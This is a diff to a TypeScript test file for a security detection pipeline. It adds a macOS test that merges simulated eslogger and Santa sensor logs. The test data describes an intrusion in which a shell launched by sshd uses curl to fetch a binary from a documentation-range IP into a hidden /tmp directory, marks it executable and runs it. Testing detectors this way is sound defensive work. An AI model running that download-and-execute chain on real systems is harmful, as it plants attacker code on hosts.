@@ -1,12 +1,15 @@
 import { readFileSync } from "node:fs";
 import { join } from "node:path";
-import type { ActedEvent, ArtifactLife, Finding, TelemetryEvent } from "@limpid/core";
+import type { ActedEvent, ArtifactLife, Finding, Platform, TelemetryEvent } from "@limpid/core";
 import { an0056 } from "@limpid/detect";
 import { type JoinCounts, Joining, sensorOf } from "@limpid/pipeline";
-import { SOURCES } from "@limpid/telemetry";
+import { SOURCES, type Source, sourceNamed } from "@limpid/telemetry";
 import fc from "fast-check";
 import { describe, expect, it, test } from "vitest";
 import { Scene } from "../packages/detect/src/testing/scene.ts";
+import { EsMessages } from "../packages/telemetry/src/testing/es-messages.ts";
+import { readLog } from "../packages/telemetry/src/testing/read.ts";
+import { SantaMessages } from "../packages/telemetry/src/testing/santa-messages.ts";
 import { barePipeline } from "./support/pipeline.ts";
 import { offBy, type SensorView, toTheSecond, VIEWS } from "./support/sensor-views.ts";
 
@@ -82,11 +85,11 @@ interface Judged {
 }
 
 /** As `hunt` reads several sources: a few events at a time, of the one that stands furthest behind. */
-function judge(told: readonly Told[], atOnce = 3): Judged {
+function judge(told: readonly Told[], atOnce = 3, platform: Platform = "linux"): Judged {
   const findings: Finding[] = [];
   const lives: object[] = [];
   const judged = an0056();
-  const every = { ...judged, candidate: (life: ArtifactLife) => lives.push(whole(life)) < 0 };
+  const every = { ...judged, platform, candidate: (life: ArtifactLife) => lives.push(whole(life)) < 0 };
   const pipeline = barePipeline((finding) => findings.push(finding), { analytics: [judged, every] });
   const ways = new Map<string, (event: TelemetryEvent) => void>();
   const joining = new Joining((event, { name }) => ways.get(name)?.(event));
@@ -94,7 +97,7 @@ function judge(told: readonly Told[], atOnce = 3): Judged {
     .map(({ source, events }) => ({ sensor: sensorOf(source), events }))
     .sort((one, other) => one.sensor.rank - other.sensor.rank)
     .map(({ sensor, events }) => {
-      ways.set(sensor.name, pipeline.observeFrom(["linux"], sensor));
+      ways.set(sensor.name, pipeline.observeFrom([platform], sensor));
       return { joined: joining.open(sensor), events, read: 0 };
     });
   for (;;) {
@@ -119,12 +122,19 @@ const whole = (life: ArtifactLife) => ({
   executions: life.executions.map(({ at, argv, by }) => [at, argv, by.process.pid]),
   touches: life.touches.map(({ kind, at, event, by }) => [kind, at, event, by.run.image]),
   gone: [life.removedAt, life.nameTakenAt],
+  reported: life.reported,
 });
 
 const told = (view: SensorView, events: readonly ActedEvent[]): Told => ({
   source: view.source,
   events: view.tell(events),
 });
+
+function source(name: string): Source {
+  const found = sourceNamed(name);
+  if (found === undefined) throw new Error(`no source ${name}`);
+  return found;
+}
 
 /** What must be the same whoever told it too. */
 const essence = ({ findings }: Judged) =>
@@ -383,6 +393,57 @@ it("every source has its place among those whose word counts, as the guide says"
   const ranked = SOURCES.map(({ name }) => sensorOf(name)).sort((one, other) => one.rank - other.rank);
   expect(new Set(ranked.map(({ rank }) => rank)).size).toBe(SOURCES.length);
   expect(order).toEqual(ranked.map(({ name }) => name.replace("-linux", "").replace("-", " ")));
+});
+
+describe("eslogger and Santa of one Mac, in their own words", () => {
+  /** The same story in each sensor's log; their makers begin with other pids, inodes and hours. */
+  const es = new EsMessages();
+  const santa = new SantaMessages();
+  const agent = ["/tmp/.x/agent"];
+  const shells = [es.spawn(es.running("/usr/libexec/sshd"), "/bin/zsh", ["zsh", "-c", "x"])] as const;
+  const others = [santa.spawn(santa.running("/usr/libexec/sshd"), "/bin/zsh", ["zsh", "-c", "x"])] as const;
+  const curl = es.spawn(shells[0], "/usr/bin/curl", ["curl", "-o", "/tmp/.x/agent", "http://203.0.113.7/a"]);
+  const same = santa.spawn(others[0], "/usr/bin/curl", ["curl", "-o", "/tmp/.x/agent", "http://203.0.113.7/a"]);
+  es.make(curl, "/tmp/.x/agent").chmod(curl, "/tmp/.x/agent", 0o755).exit(curl);
+  santa.close(same, "/tmp/.x/agent").exit(same);
+  es.exit(es.spawn(shells[0], "/tmp/.x/agent", agent));
+  santa.exit(santa.spawn(others[0], "/tmp/.x/agent", agent));
+
+  const inodes = new Map(
+    [...es.log.matchAll(/"path":"([^"]+)"[^{}]*"stat":\{[^}]*?"st_ino":(\d+)/g)].map(([, path, inode]) => [
+      path,
+      inode,
+    ]),
+  );
+  const aligned = santa.log
+    .replaceAll("T07:", "T06:")
+    .replace(/"pid":(\d{3,})/g, (_all, pid) => `"pid":${Number(pid) - 200}`)
+    .replace(/"pidversion":(\d{3,})/g, (_all, version) => `"pidversion":${Number(version) - 300}`)
+    .replace(
+      /"path":"([^"]+)"([^{}]*"stat":\{[^{}]*"ino":)"\d+"/g,
+      (_all, path, between) => `"path":"${path}"${between}"${inodes.get(path) ?? 1}"`,
+    );
+
+  const told = (skew: number): readonly Told[] => [
+    { source: "eslogger", events: readLog(source("eslogger"), es.log, 65_536, "mac").events },
+    { source: "santa", events: offBy(readLog(source("santa"), aligned, 65_536, "mac").events, skew) },
+  ];
+
+  it.each([[-40], [0], [7], [900]])(
+    "stamps %i ms apart: one file, written once, run once, with what both know",
+    (skew) => {
+      const [alone] = judge(told(0).slice(0, 1), 3, "macos").lives.filter(isAgent);
+      const both = judge(told(skew), 3, "macos");
+      const [agentLife, ...more] = both.lives.filter(isAgent);
+      expect(more).toEqual([]);
+      expect({ ...agentLife, reported: undefined }).toEqual({ ...alone, reported: undefined });
+      expect(agentLife).toMatchObject({ reported: { sha256: expect.stringMatching(/^[0-9a-f]{64}$/) } });
+      expect(both.counts).toMatchObject({ disputed: 0, late: 0 });
+      expect(both.counts.again).toBeGreaterThan(6);
+    },
+  );
+
+  const isAgent = (life: object) => "path" in life && life.path === "/tmp/.x/agent";
 });
 
 describe("what cannot be joined", () => {
